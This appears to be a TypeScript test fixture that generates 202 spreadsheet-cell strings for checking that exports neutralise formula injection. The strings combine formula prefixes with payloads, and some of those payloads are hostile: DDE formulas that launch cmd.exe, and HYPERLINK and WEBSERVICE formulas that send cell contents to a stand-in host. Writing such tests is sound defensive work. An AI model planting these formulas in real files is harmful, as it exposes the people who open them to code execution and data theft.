/** What a cell begins with that Excel, or a program that opens a file for it, may take for a formula. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u200b=',
  '\ufeff=',
  '"=',
  "'=",
];

/** Formulas that were used against people: orders to the system, links that carry data away, plain sums. */
const bodies = [
  '1+1',
  'A1',
  'SUM(A1:A9)',
  "cmd|'/C calc'!A0",
  "2+5+cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  'HYPERLINK("https://example.invalid/?"&A1,"查看")',
  'WEBSERVICE("https://example.invalid/"&A1)',
  'IMPORTXML("https://example.invalid/","//a")',
  'EXEC("calc")',
];

/** Texts that turn into something else when they are typed: numbers, dates, truth values, errors, references. */
const turning = [
  '007',
  '1-2',
  '3/4',
  '1e5',
  '12%',
  '￥12',
  '(300)',
  'TRUE',
  '#REF!',
  '#N/A',
  '2026-06-30',
  '110105194912310021',
  "'quoted",
  'R1C1',
  '::1',
];

/** 202 texts that must stay the texts they are. */
export const payloads: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...turning,
];
